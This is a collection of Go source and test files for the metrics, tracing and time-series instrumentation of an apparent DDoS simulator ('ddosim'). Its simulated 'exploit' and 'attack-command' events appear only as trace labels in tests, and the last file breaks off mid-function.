	c := r.Counter("frames_total", "frames sent")
	c.Inc()
	c.Add(4)
	if got := c.Value(); got != 5 {
		t.Errorf("counter = %d, want 5", got)
	}
	if r.Counter("frames_total", "ignored") != c {
		t.Error("get-or-create returned a different counter")
	}
	if got := r.CounterValue("frames_total"); got != 5 {
		t.Errorf("CounterValue = %d, want 5", got)
	}
	if got := r.CounterValue("missing"); got != 0 {
		t.Errorf("missing CounterValue = %d, want 0", got)
	}

	g := r.Gauge("queue_depth", "live queue depth")
	g.Set(7)
	g.Add(-2)
	if got := g.Value(); got != 5 {
		t.Errorf("gauge = %v, want 5", got)
	}
	if got := r.GaugeValue("queue_depth"); got != 5 {
		t.Errorf("GaugeValue = %v, want 5", got)
	}
}

func TestHistogramBuckets(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("latency_ms", "latency", []float64{10, 100, 1000})
	for _, v := range []float64{5, 50, 50, 500, 5000} {
		h.Observe(v)
	}
	if h.Count() != 5 {
		t.Errorf("count = %d, want 5", h.Count())
	}
	if h.Sum() != 5605 {
		t.Errorf("sum = %v, want 5605", h.Sum())
	}
	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		`latency_ms_bucket{le="10"} 1`,
		`latency_ms_bucket{le="100"} 3`,
		`latency_ms_bucket{le="1000"} 4`,
		`latency_ms_bucket{le="+Inf"} 5`,
		"latency_ms_sum 5605",
		"latency_ms_count 5",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("prometheus dump missing %q:\n%s", want, out)
		}
	}
}

func TestWritePrometheusDeterministic(t *testing.T) {
	build := func() *Registry {
		r := NewRegistry()
		// Register in one order, bump in another; the dump sorts.
		r.Counter("zeta_total", "last alphabetically").Add(3)
		r.Gauge("alpha_depth", "first alphabetically").Set(1.5)
		r.Counter("mid_total", "").Inc()
		return r
	}
	var a, b bytes.Buffer
	if err := build().WritePrometheus(&a); err != nil {
		t.Fatal(err)
	}
	if err := build().WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("two identical registries dumped different bytes")
	}
	want := "# HELP alpha_depth first alphabetically\n" +
		"# TYPE alpha_depth gauge\n" +
		"alpha_depth 1.5\n" +
		"# TYPE mid_total counter\n" +
		"mid_total 1\n" +
		"# HELP zeta_total last alphabetically\n" +
		"# TYPE zeta_total counter\n" +
		"zeta_total 3\n"
	if a.String() != want {
		t.Errorf("dump:\n%s\nwant:\n%s", a.String(), want)
	}
}

func TestNilRegistryAndMetrics(t *testing.T) {
	var r *Registry
	c := r.Counter("x", "")
	c.Inc()
	c.Add(3)
	if c.Value() != 0 {
		t.Error("nil counter accumulated")
	}
	g := r.Gauge("y", "")
	g.Set(4)
	g.Add(1)
	if g.Value() != 0 {
		t.Error("nil gauge accumulated")
	}
	h := r.Histogram("z", "", []float64{1})
	h.Observe(2)
	if h.Count() != 0 || h.Sum() != 0 {
		t.Error("nil histogram accumulated")
	}
	if r.CounterValue("x") != 0 || r.GaugeValue("y") != 0 {
		t.Error("nil registry reported values")
	}
	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != 0 {
		t.Errorf("nil registry dumped %q", buf.String())
	}
}
