package obs

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"ddosim/internal/sim"
)

var update = flag.Bool("update", false, "rewrite golden files")

// sampleTracer builds a small fixed scenario: two phase spans, a churn
// epoch, and a handful of point events — enough to exercise span
// nesting, args, and the span/event interleave.
func sampleTracer() *Tracer {
	tr := NewTracer()
	deploy := tr.BeginSpan(0, CatPhase, "deploy", KV{"devs", "3"})
	tr.EndSpan(deploy, 2*sim.Second)
	recruit := tr.BeginSpan(2*sim.Second, CatPhase, "recruitment")
	tr.Event(2500*sim.Millisecond, CatExploit, "exploit-attempt", KV{"channel", "dns"}, KV{"victim", "10.0.0.7"})
	tr.Event(3*sim.Second, CatExploit, "exploit-success", KV{"dev", "dev-001"}, KV{"binary", "connman"})
	epoch := tr.BeginSpan(4*sim.Second, CatChurn, "churn-epoch", KV{"n", "1"})
	tr.Event(4500*sim.Millisecond, CatChurn, "device-down", KV{"dev", "dev-002"})
	tr.EndSpan(epoch, 6*sim.Second)
	tr.Event(7*sim.Second, CatCNC, "attack-command", KV{"method", "udpplain"})
	tr.EndSpan(recruit, 7*sim.Second)
	tr.Event(8*sim.Second, CatNet, "queue-drop", KV{"node", "router"}, KV{"reason", "drop-tail"})
	return tr
}

func TestTracerSpanLifecycle(t *testing.T) {
	tr := sampleTracer()
	spans := tr.Spans()
	if len(spans) != 3 {
		t.Fatalf("spans = %d, want 3", len(spans))
	}
	if spans[0].Name != "deploy" || spans[0].End != 2*sim.Second {
		t.Errorf("deploy span = %+v", spans[0])
	}
	if spans[1].Name != "recruitment" || spans[1].Start != 2*sim.Second || spans[1].End != 7*sim.Second {
		t.Errorf("recruitment span = %+v", spans[1])
	}
	if got := tr.CountEvents(CatExploit, ""); got != 2 {
		t.Errorf("CountEvents(exploit) = %d, want 2", got)
	}
	if got := tr.CountEvents("", "queue-drop"); got != 1 {
		t.Errorf("CountEvents(queue-drop) = %d, want 1", got)
	}
	// Ending twice or with a bogus id must be harmless.
	tr.EndSpan(spans[0].ID, 99*sim.Second)
	tr.EndSpan(SpanID(42), sim.Second)
	tr.EndSpan(SpanID(-1), sim.Second)
	if got := tr.Spans()[0].End; got != 2*sim.Second {
		t.Errorf("re-EndSpan moved End to %v", got)
	}
}

func TestTracerCloseOpenSpans(t *testing.T) {
	tr := NewTracer()
	tr.BeginSpan(0, CatPhase, "deploy")
	id := tr.BeginSpan(sim.Second, CatPhase, "recruitment")
	tr.EndSpan(id, 2*sim.Second)
	tr.CloseOpenSpans(5 * sim.Second)
	spans := tr.Spans()
	if spans[0].End != 5*sim.Second {
		t.Errorf("open span end = %v, want 5s", spans[0].End)
	}
	if spans[1].End != 2*sim.Second {
		t.Errorf("closed span end moved to %v", spans[1].End)
	}
}

func TestTracerEventCap(t *testing.T) {
	tr := NewTracer()
	tr.SetMaxEvents(3)
	for i := 0; i < 5; i++ {
		tr.Event(sim.Time(i)*sim.Second, CatNet, "queue-drop")
	}
	if got := len(tr.Events()); got != 3 {
		t.Errorf("events kept = %d, want 3", got)
	}
	if got := tr.Dropped(); got != 2 {
		t.Errorf("dropped = %d, want 2", got)
	}
	// Spans are never capped.
	if id := tr.BeginSpan(0, CatPhase, "deploy"); id != 0 {
		t.Errorf("span id = %d, want 0", id)
	}
}

func TestTracerNilSafe(t *testing.T) {
	var tr *Tracer
	tr.Event(0, CatNet, "x")
	id := tr.BeginSpan(0, CatPhase, "y")
	tr.EndSpan(id, sim.Second)
	tr.CloseOpenSpans(sim.Second)
	tr.SetMaxEvents(1)
	if tr.Spans() != nil || tr.Events() != nil || tr.Dropped() != 0 || tr.CountEvents("", "") != 0 {
		t.Error("nil tracer leaked state")
	}
	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != 0 {
		t.Errorf("nil WriteJSONL wrote %q", buf.String())
	}
	buf.Reset()
	if err := tr.WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "[]\n" {
		t.Errorf("nil WriteChromeTrace wrote %q, want empty array", got)
	}
}

func TestWriteJSONLGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := sampleTracer().WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "trace.golden.jsonl")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to regenerate)", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("JSONL drifted from golden file:\ngot:\n%s\nwant:\n%s", buf.Bytes(), want)
	}
}

func TestWriteJSONLDeterministic(t *testing.T) {
	var a, b bytes.Buffer
	if err := sampleTracer().WriteJSONL(&a); err != nil {
		t.Fatal(err)
	}
	if err := sampleTracer().WriteJSONL(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("two identical scenarios exported different JSONL bytes")
	}
}

func TestWriteChromeTrace(t *testing.T) {
	var buf bytes.Buffer
	if err := sampleTracer().WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	var entries []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &entries); err != nil {
		t.Fatalf("Chrome trace is not a JSON array: %v", err)
	}
	if len(entries) != 8 { // 3 spans + 5 events
		t.Fatalf("entries = %d, want 8", len(entries))
	}
	var complete, instant int
	tids := make(map[string]float64)
	for _, e := range entries {
		switch e["ph"] {
		case "X":
			complete++
			if _, ok := e["dur"]; !ok {
				t.Errorf("complete event %v missing dur", e["name"])
			}
		case "i":
			instant++
			if e["s"] != "t" {
				t.Errorf("instant event %v scope = %v, want t", e["name"], e["s"])
			}
		default:
			t.Errorf("unexpected phase %v", e["ph"])
		}
		if e["pid"] != float64(1) {
			t.Errorf("pid = %v, want 1", e["pid"])
		}
		cat := e["cat"].(string)
		tid := e["tid"].(float64)
		if prev, ok := tids[cat]; ok && prev != tid {
			t.Errorf("category %s on two tracks (%v, %v)", cat, prev, tid)
		}
		tids[cat] = tid
	}
	if complete != 3 || instant != 5 {
		t.Errorf("complete=%d instant=%d, want 3/5", complete, instant)
	}
	// Tracks are assigned in sorted category order: churn < cnc < exploit < net < phase.
	order := []string{CatChurn, CatCNC, CatExploit, CatNet, CatPhase}
	for i, cat := range order {
		if tids[cat] != float64(i+1) {
			t.Errorf("tid[%s] = %v, want %d", cat, tids[cat], i+1)
		}
	}
	// The recruitment span's duration covers 2s..7s.
	if !strings.Contains(buf.String(), `"name":"recruitment","cat":"phase","ph":"X","ts":2000000,"dur":5000000`) {
		t.Error("recruitment span missing expected ts/dur")
	}
}
