package obs

import (
	"strings"
	"sync"
	"testing"
)

// TestRegistryConcurrentResetSnapshot hammers the registry from many
// goroutines — writers updating metrics, readers snapshotting, dumping
// Prometheus text, and resetting — and relies on -race to flag any
// unsynchronized access.
func TestRegistryConcurrentResetSnapshot(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("events_total", "events")
	g := r.Gauge("depth", "queue depth")
	h := r.Histogram("latency_s", "latency", []float64{0.1, 1, 10})

	const writers = 4
	const iters = 500
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				c.Inc()
				g.Set(float64(i))
				g.Add(0.5)
				h.Observe(float64(i%20) / 2)
				// Get-or-create from several goroutines too.
				r.Counter("events_total", "events").Add(1)
				_ = r.CounterValue("events_total")
				_ = r.GaugeValue("depth")
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < iters; i++ {
			_ = r.Snapshot()
			var sb strings.Builder
			_ = r.WritePrometheus(&sb)
			if i%50 == 0 {
				r.Reset()
			}
		}
	}()
	wg.Wait()
}

// TestRegistryResetKeepsRegistrations checks Reset zeroes values but
// leaves names, help, and handles intact.
func TestRegistryResetKeepsRegistrations(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("a_total", "help a")
	g := r.Gauge("b", "help b")
	h := r.Histogram("c", "help c", []float64{1})
	c.Add(7)
	g.Set(3.5)
	h.Observe(0.5)

	r.Reset()

	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Sum() != 0 {
		t.Fatalf("metrics not zeroed: %d %v %d %v", c.Value(), g.Value(), h.Count(), h.Sum())
	}
	// Handles still registered: updating the old handle is visible
	// through the registry.
	c.Inc()
	if r.CounterValue("a_total") != 1 {
		t.Fatal("counter handle detached after Reset")
	}
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{"# HELP a_total help a", "# HELP b help b", "# HELP c help c"} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

// TestWritePrometheusDedupesNames pins the fix for the map-order /
// duplicate-emission hazard: a name registered as two metric types
// must be dumped exactly once.
func TestWritePrometheusDedupesNames(t *testing.T) {
	r := NewRegistry()
	r.Counter("dup", "as counter").Add(2)
	r.Gauge("dup", "as gauge").Set(9)

	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	if n := strings.Count(out, "# TYPE dup "); n != 1 {
		t.Fatalf("name dumped %d times:\n%s", n, out)
	}
	if !strings.Contains(out, "# TYPE dup counter") {
		t.Fatalf("counter should win the type conflict:\n%s", out)
	}
}

func TestRegistrySnapshotSorted(t *testing.T) {
	r := NewRegistry()
	r.Gauge("zz", "").Set(1)
	r.Counter("aa_total", "").Add(2)
	r.Histogram("mm", "", []float64{1}).Observe(0.5)

	pts := r.Snapshot()
	if len(pts) != 3 {
		t.Fatalf("points %+v", pts)
	}
	if pts[0].Name != "aa_total" || pts[1].Name != "mm" || pts[2].Name != "zz" {
		t.Fatalf("not sorted: %+v", pts)
	}
	if pts[0].Type != "counter" || pts[0].Value != 2 {
		t.Fatalf("counter point %+v", pts[0])
	}
	if pts[1].Type != "histogram" || pts[1].Count != 1 || pts[1].Value != 0.5 {
		t.Fatalf("histogram point %+v", pts[1])
	}
	nilReg := (*Registry)(nil)
	if nilReg.Snapshot() != nil {
		t.Fatal("nil registry snapshot should be nil")
	}
	nilReg.Reset() // must not panic
}
