package obs

import (
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// Counter is a monotonically-increasing uint64 metric. Methods are
// nil-safe and safe for concurrent use: the simulation kernel is
// single-threaded, but exporters (Prometheus scrapes, snapshots) may
// read from other goroutines.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Value reports the current count.
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

func (c *Counter) reset() { c.v.Store(0) }

// Gauge is a settable float64 metric. Methods are nil-safe and safe
// for concurrent use (the value is an atomically-updated bit pattern).
type Gauge struct {
	bits atomic.Uint64
}

// Set replaces the value.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.bits.Store(math.Float64bits(v))
}

// Add shifts the value by delta.
func (g *Gauge) Add(delta float64) {
	if g == nil {
		return
	}
	for {
		old := g.bits.Load()
		nv := math.Float64bits(math.Float64frombits(old) + delta)
		if g.bits.CompareAndSwap(old, nv) {
			return
		}
	}
}

// Value reports the current value.
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

func (g *Gauge) reset() { g.bits.Store(0) }

// Histogram buckets observations by upper bound, Prometheus-style
// (cumulative buckets plus +Inf, sum, and count). Methods are nil-safe
// and safe for concurrent use.
type Histogram struct {
	mu     sync.Mutex
	bounds []float64
	counts []uint64 // len(bounds)+1; last is +Inf
	sum    float64
	total  uint64
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	h.mu.Lock()
	i := sort.SearchFloat64s(h.bounds, v)
	h.counts[i]++
	h.sum += v
	h.total++
	h.mu.Unlock()
}

// Count reports how many samples were observed.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.total
}

// Sum reports the sum of all samples.
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.sum
}

// snapshot returns a consistent (bounds, cumulative-free counts, sum,
// total) view under the histogram's lock.
func (h *Histogram) snapshot() (bounds []float64, counts []uint64, sum float64, total uint64) {
	h.mu.Lock()
	defer h.mu.Unlock()
	counts = make([]uint64, len(h.counts))
	copy(counts, h.counts)
	return h.bounds, counts, h.sum, h.total
}

func (h *Histogram) reset() {
	h.mu.Lock()
	for i := range h.counts {
		h.counts[i] = 0
	}
	h.sum, h.total = 0, 0
	h.mu.Unlock()
}

// Registry holds named metrics. Get-or-create accessors make callers
// independent of registration order; names follow Prometheus
// conventions (snake_case, _total suffix on counters). Methods are
// nil-safe (a nil registry hands out nil metrics, whose methods are
// no-ops) and safe for concurrent use: the maps are mutex-guarded, and
// the metric values themselves are atomic or locked.
type Registry struct {
	mu       sync.Mutex
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
	help     map[string]string
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
		help:     make(map[string]string),
	}
}

// Counter returns the named counter, creating it on first use.
func (r *Registry) Counter(name, help string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{}
		r.counters[name] = c
		r.help[name] = help
	}
	return c
}

// Gauge returns the named gauge, creating it on first use.
func (r *Registry) Gauge(name, help string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{}
		r.gauges[name] = g
		r.help[name] = help
	}
	return g
}

// Histogram returns the named histogram, creating it on first use with
// the given upper bounds (sorted ascending; +Inf is implicit).
func (r *Registry) Histogram(name, help string, bounds []float64) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.hists[name]
	if !ok {
		bs := make([]float64, len(bounds))
		copy(bs, bounds)
		sort.Float64s(bs)
		h = &Histogram{bounds: bs, counts: make([]uint64, len(bs)+1)}
		r.hists[name] = h
		r.help[name] = help
	}
	return h
}

// CounterValue reports a counter's value without creating it.
func (r *Registry) CounterValue(name string) uint64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	c := r.counters[name]
	r.mu.Unlock()
	return c.Value()
}

// GaugeValue reports a gauge's value without creating it.
func (r *Registry) GaugeValue(name string) float64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	g := r.gauges[name]
	r.mu.Unlock()
	return g.Value()
}

// Reset zeroes every registered metric, keeping registrations (names,
// help text, histogram bounds) intact. Handles previously returned by
// the get-or-create accessors remain valid.
func (r *Registry) Reset() {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, c := range r.counters {
		c.reset()
	}
	for _, g := range r.gauges {
		g.reset()
	}
	for _, h := range r.hists {
		h.reset()
	}
}

// MetricPoint is one metric's value in a registry snapshot.
type MetricPoint struct {
	Name  string
	Type  string // "counter" | "gauge" | "histogram"
	Value float64
	Count uint64 // histogram sample count; 0 otherwise
}

// Snapshot captures every metric's current value, sorted by name (and,
// for the pathological case of one name registered as several types,
// by type) so the result is deterministic.
func (r *Registry) Snapshot() []MetricPoint {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	out := make([]MetricPoint, 0, len(r.counters)+len(r.gauges)+len(r.hists))
	for n, c := range r.counters {
		out = append(out, MetricPoint{Name: n, Type: "counter", Value: float64(c.Value())})
	}
	for n, g := range r.gauges {
		out = append(out, MetricPoint{Name: n, Type: "gauge", Value: g.Value()})
	}
	for n, h := range r.hists {
		_, _, sum, total := h.snapshot()
		out = append(out, MetricPoint{Name: n, Type: "histogram", Value: sum, Count: total})
	}
	r.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].Name != out[j].Name {
			return out[i].Name < out[j].Name
		}
		return out[i].Type < out[j].Type
	})
	return out
}

func formatFloat(v float64) string {
	if v == math.Trunc(v) && math.Abs(v) < 1e15 {
		return strconv.FormatInt(int64(v), 10)
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// WritePrometheus dumps every metric in the Prometheus text exposition
// format, sorted by name so output is deterministic. A name registered
// as more than one metric type (a misuse, but possible) is emitted
// exactly once, preferring counter, then gauge, then histogram —
// previously such a name was dumped once per type, destabilizing the
// artifact.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	names := make([]string, 0, len(r.counters)+len(r.gauges)+len(r.hists))
	seen := make(map[string]bool, cap(names))
	addName := func(n string) {
		if !seen[n] {
			seen[n] = true
			names = append(names, n)
		}
	}
	for n := range r.counters {
		addName(n)
	}
	for n := range r.gauges {
		addName(n)
	}
	for n := range r.hists {
		addName(n)
	}
	sort.Strings(names)

	var b strings.Builder
	for _, n := range names {
		if help := r.help[n]; help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", n, help)
		}
		switch {
		case r.counters[n] != nil:
			fmt.Fprintf(&b, "# TYPE %s counter\n%s %d\n", n, n, r.counters[n].Value())
		case r.gauges[n] != nil:
			fmt.Fprintf(&b, "# TYPE %s gauge\n%s %s\n", n, n, formatFloat(r.gauges[n].Value()))
		default:
			bounds, counts, sum, total := r.hists[n].snapshot()
			fmt.Fprintf(&b, "# TYPE %s histogram\n", n)
			var cum uint64
			for i, bound := range bounds {
				cum += counts[i]
				fmt.Fprintf(&b, "%s_bucket{le=%q} %d\n", n, formatFloat(bound), cum)
			}
			fmt.Fprintf(&b, "%s_bucket{le=\"+Inf\"} %d\n", n, total)
			fmt.Fprintf(&b, "%s_sum %s\n", n, formatFloat(sum))
			fmt.Fprintf(&b, "%s_count %d\n", n, total)
		}
	}
	r.mu.Unlock()
	_, err := io.WriteString(w, b.String())
	return err
}
