package obs

import (
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"
)

// Counter is a monotonically-increasing uint64 metric. Methods are
// nil-safe.
type Counter struct {
	v uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) {
	if c == nil {
		return
	}
	c.v += n
}

// Value reports the current count.
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v
}

// Gauge is a settable float64 metric. Methods are nil-safe.
type Gauge struct {
	v float64
}

// Set replaces the value.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.v = v
}

// Add shifts the value by delta.
func (g *Gauge) Add(delta float64) {
	if g == nil {
		return
	}
	g.v += delta
}

// Value reports the current value.
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return g.v
}

// Histogram buckets observations by upper bound, Prometheus-style
// (cumulative buckets plus +Inf, sum, and count).
type Histogram struct {
	bounds []float64
	counts []uint64 // len(bounds)+1; last is +Inf
	sum    float64
	total  uint64
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v)
	h.counts[i]++
	h.sum += v
	h.total++
}

// Count reports how many samples were observed.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.total
}

// Sum reports the sum of all samples.
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	return h.sum
}

// Registry holds named metrics. Get-or-create accessors make callers
// independent of registration order; names follow Prometheus
// conventions (snake_case, _total suffix on counters). Methods are
// nil-safe: a nil registry hands out nil metrics, whose methods are
// no-ops.
type Registry struct {
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
	help     map[string]string
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
		help:     make(map[string]string),
	}
}

// Counter returns the named counter, creating it on first use.
func (r *Registry) Counter(name, help string) *Counter {
	if r == nil {
		return nil
	}
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{}
		r.counters[name] = c
		r.help[name] = help
	}
	return c
}

// Gauge returns the named gauge, creating it on first use.
func (r *Registry) Gauge(name, help string) *Gauge {
	if r == nil {
		return nil
	}
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{}
		r.gauges[name] = g
		r.help[name] = help
	}
	return g
}

// Histogram returns the named histogram, creating it on first use with
// the given upper bounds (sorted ascending; +Inf is implicit).
func (r *Registry) Histogram(name, help string, bounds []float64) *Histogram {
	if r == nil {
		return nil
	}
	h, ok := r.hists[name]
	if !ok {
		bs := make([]float64, len(bounds))
		copy(bs, bounds)
		sort.Float64s(bs)
		h = &Histogram{bounds: bs, counts: make([]uint64, len(bs)+1)}
		r.hists[name] = h
		r.help[name] = help
	}
	return h
}

// CounterValue reports a counter's value without creating it.
func (r *Registry) CounterValue(name string) uint64 {
	if r == nil {
		return 0
	}
	return r.counters[name].Value()
}

// GaugeValue reports a gauge's value without creating it.
func (r *Registry) GaugeValue(name string) float64 {
	if r == nil {
		return 0
	}
	return r.gauges[name].Value()
}

func formatFloat(v float64) string {
	if v == math.Trunc(v) && math.Abs(v) < 1e15 {
		return strconv.FormatInt(int64(v), 10)
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// WritePrometheus dumps every metric in the Prometheus text exposition
// format, sorted by name so output is deterministic.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	names := make([]string, 0, len(r.counters)+len(r.gauges)+len(r.hists))
	for n := range r.counters {
		names = append(names, n)
	}
	for n := range r.gauges {
		names = append(names, n)
	}
	for n := range r.hists {
		names = append(names, n)
	}
	sort.Strings(names)

	var b strings.Builder
	for _, n := range names {
		if help := r.help[n]; help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", n, help)
		}
		switch {
		case r.counters[n] != nil:
			fmt.Fprintf(&b, "# TYPE %s counter\n%s %d\n", n, n, r.counters[n].v)
		case r.gauges[n] != nil:
			fmt.Fprintf(&b, "# TYPE %s gauge\n%s %s\n", n, n, formatFloat(r.gauges[n].v))
		default:
			h := r.hists[n]
			fmt.Fprintf(&b, "# TYPE %s histogram\n", n)
			var cum uint64
			for i, bound := range h.bounds {
				cum += h.counts[i]
				fmt.Fprintf(&b, "%s_bucket{le=%q} %d\n", n, formatFloat(bound), cum)
			}
			fmt.Fprintf(&b, "%s_bucket{le=\"+Inf\"} %d\n", n, h.total)
			fmt.Fprintf(&b, "%s_sum %s\n", n, formatFloat(h.sum))
			fmt.Fprintf(&b, "%s_count %d\n", n, h.total)
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}
