package obs

import (
	"fmt"
	"io"
	"strconv"
	"strings"

	"ddosim/internal/sim"
)

// tsCol is one registered time-series column.
type tsCol struct {
	name  string
	read  func() float64
	delta bool
	prev  float64
}

// Windows aggregates readings into fixed-width windows of simulated
// time and renders them as a CSV or JSONL time-series artifact — the
// streaming replacement for post-hoc curve extraction. Columns are
// registered up front; Sample(now) then snapshots every column once
// per window, in registration order, which makes the artifact a pure
// function of the run (same seed → byte-identical bytes).
//
// The zero value is not usable; construct with NewWindows. Methods are
// nil-safe so instrumentation can stay unconditional.
type Windows struct {
	width sim.Time
	cols  []tsCol
	rows  [][]float64
	times []sim.Time // window start per row
	last  sim.Time   // end of the last sampled window
}

// NewWindows creates a window aggregator with the given window width.
func NewWindows(width sim.Time) *Windows {
	if width <= 0 {
		panic("obs: window width must be positive")
	}
	return &Windows{width: width}
}

// Width reports the configured window width.
func (w *Windows) Width() sim.Time {
	if w == nil {
		return 0
	}
	return w.width
}

// Column registers a gauge-style column: each window records the
// reading at window close. The read function is called exactly once
// per Sample, in registration order, so it may carry side effects
// (e.g. draining a per-window accumulator).
func (w *Windows) Column(name string, read func() float64) {
	if w == nil {
		return
	}
	w.cols = append(w.cols, tsCol{name: name, read: read})
}

// DeltaColumn registers a rate-style column over a monotone reading:
// each window records the increase since the previous window.
func (w *Windows) DeltaColumn(name string, read func() float64) {
	if w == nil {
		return
	}
	w.cols = append(w.cols, tsCol{name: name, read: read, delta: true})
}

// Sample closes the window ending at now: every column is read once,
// in registration order, and one row is appended with the window's
// start time. Calls at or before the previous sample time are ignored,
// so a final tail flush at run end is idempotent with the last ticker
// fire.
func (w *Windows) Sample(now sim.Time) {
	if w == nil || now <= w.last {
		return
	}
	row := make([]float64, len(w.cols))
	for i := range w.cols {
		c := &w.cols[i]
		v := c.read()
		if c.delta {
			row[i] = v - c.prev
			c.prev = v
		} else {
			row[i] = v
		}
	}
	w.rows = append(w.rows, row)
	w.times = append(w.times, w.last)
	w.last = now
}

// Rows reports the number of closed windows.
func (w *Windows) Rows() int {
	if w == nil {
		return 0
	}
	return len(w.rows)
}

// fmtFloat renders a float compactly and deterministically.
func fmtFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// WriteCSV renders the time series as CSV with a window_start_s column
// followed by the registered columns.
func (w *Windows) WriteCSV(out io.Writer) error {
	var sb strings.Builder
	sb.WriteString("window_start_s")
	if w != nil {
		for _, c := range w.cols {
			sb.WriteByte(',')
			sb.WriteString(c.name)
		}
	}
	sb.WriteByte('\n')
	if w != nil {
		for i, row := range w.rows {
			sb.WriteString(fmtFloat(w.times[i].Seconds()))
			for _, v := range row {
				sb.WriteByte(',')
				sb.WriteString(fmtFloat(v))
			}
			sb.WriteByte('\n')
		}
	}
	_, err := io.WriteString(out, sb.String())
	return err
}

// WriteJSONL renders the time series as JSON Lines, one window per
// line, with keys in registration order (written manually — Go's JSON
// encoder would not preserve map order).
func (w *Windows) WriteJSONL(out io.Writer) error {
	if w == nil {
		return nil
	}
	var sb strings.Builder
	for i, row := range w.rows {
